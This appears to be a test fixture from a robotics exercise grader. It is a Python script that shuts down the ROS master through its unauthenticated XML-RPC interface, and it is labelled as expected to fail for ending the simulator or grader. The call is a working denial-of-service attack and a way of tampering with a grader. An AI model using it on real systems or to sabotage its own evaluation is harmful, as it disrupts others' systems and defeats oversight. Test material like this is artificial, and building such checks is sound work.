#!/usr/bin/env python3
# expected: failed: ended the simulator or the grader
# exercise: stop_at_x
# kind: ends the master
"""Shuts the master down by its XML-RPC interface, which has no access control."""
import xmlrpc.client

import rosgraph

xmlrpc.client.ServerProxy(rosgraph.get_master_uri()).shutdown('/x', 'bye')
